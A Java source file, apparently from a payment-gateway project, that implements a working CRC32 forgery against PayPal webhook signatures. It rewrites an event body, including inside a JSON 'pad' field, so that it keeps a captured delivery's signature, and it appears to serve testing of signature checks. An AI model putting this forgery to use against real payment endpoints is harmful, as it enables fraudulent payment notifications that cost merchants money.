package io.paybridge.gateway.paypal;

import java.util.Arrays;
import java.util.zip.CRC32;

/**
 * What an attacker does to a PayPal delivery: since PayPal signs the body only through its CRC32,
 * any body can be made to carry a captured delivery's signature by appending four bytes that bring
 * its CRC32 to the captured one's.
 *
 * <p>The standard construction: CRC-32 (reflected, polynomial {@code 0xEDB88320}) processes a byte
 * as {@code reg = (reg >>> 8) ^ T[(reg ^ b) & 0xff]}, and the top bytes of the 256 table entries
 * are all different. So, walking back from the register the target CRC32 needs, each step's top
 * byte names the table index used; four steps give four indices, and going forward from the
 * register after the new body, each appended byte is chosen to hit its index.
 */
public final class Crc32Forgery {

  private static final int POLYNOMIAL = 0xEDB88320;
  private static final int[] TABLE = new int[256];
  private static final int[] BY_TOP_BYTE = new int[256];

  static {
    for (int i = 0; i < 256; i++) {
      int c = i;
      for (int k = 0; k < 8; k++) {
        c = (c & 1) != 0 ? (c >>> 1) ^ POLYNOMIAL : c >>> 1;
      }
      TABLE[i] = c;
    }
    Arrays.fill(BY_TOP_BYTE, -1);
    for (int i = 0; i < 256; i++) {
      int top = TABLE[i] >>> 24;
      if (BY_TOP_BYTE[top] != -1) {
        throw new IllegalStateException("CRC-32 table top bytes are not unique");
      }
      BY_TOP_BYTE[top] = i;
    }
  }

  private Crc32Forgery() {}

  /**
   * {@code prefix}, four bytes, then {@code suffix}, with the four bytes chosen so that the whole
   * has CRC32 {@code target}: the appending construction aimed at the register the suffix must
   * start from, found by running CRC-32 backwards over the suffix (each step is invertible once the
   * byte is known). This is how a forger puts the four bytes inside a JSON string, so the forged
   * body still parses.
   */
  public static byte[] withCrc32(byte[] prefix, long target, byte[] suffix) {
    int reg = ~(int) target;
    for (int i = suffix.length - 1; i >= 0; i--) {
      int index = BY_TOP_BYTE[reg >>> 24];
      reg = ((reg ^ TABLE[index]) << 8) | ((index ^ suffix[i]) & 0xff);
    }
    byte[] head = withCrc32(prefix, ~reg & 0xFFFFFFFFL);
    byte[] out = Arrays.copyOf(head, head.length + suffix.length);
    System.arraycopy(suffix, 0, out, head.length, suffix.length);
    return out;
  }

  /** {@code body} followed by four bytes chosen so that the whole has CRC32 {@code target}. */
  public static byte[] withCrc32(byte[] body, long target) {
    CRC32 crc = new CRC32();
    crc.update(body);
    int start = ~(int) crc.getValue();
    int end = ~(int) target;

    int[] indices = new int[4];
    int reg = end;
    for (int step = 3; step >= 0; step--) {
      int index = BY_TOP_BYTE[reg >>> 24];
      indices[step] = index;
      reg = (reg ^ TABLE[index]) << 8;
    }

    byte[] out = Arrays.copyOf(body, body.length + 4);
    reg = start;
    for (int step = 0; step < 4; step++) {
      int b = (reg ^ indices[step]) & 0xff;
      out[body.length + step] = (byte) b;
      reg = (reg >>> 8) ^ TABLE[indices[step]];
    }
    return out;
  }

  /**
   * The event as compact JSON with a last field {@code "pad":"<nonce><4 forged bytes>"}, the nonce
   * chosen so that the four bytes are plain characters of a JSON string, and the whole of CRC32
   * {@code crc}: a rewritten body that still parses and still carries the captured signature.
   */
  public static byte[] insideJson(io.vertx.core.json.JsonObject event, long crc) {
    String encoded = event.encode();
    String head = encoded.substring(0, encoded.length() - 1) + ",\"pad\":\"";
    byte[] suffix = "\"}".getBytes(java.nio.charset.StandardCharsets.UTF_8);
    for (int nonce = 0; nonce < 1_000_000; nonce++) {
      byte[] prefix = (head + nonce).getBytes(java.nio.charset.StandardCharsets.UTF_8);
      byte[] forged = withCrc32(prefix, crc, suffix);
      boolean plain = true;
      for (int i = prefix.length; i < prefix.length + 4; i++) {
        byte b = forged[i];
        plain &= b >= 0x20 && b < 0x7f && b != '"' && b != '\\';
      }
      if (plain) {
        return forged;
      }
    }
    throw new AssertionError("no nonce made the forged bytes printable");
  }
}
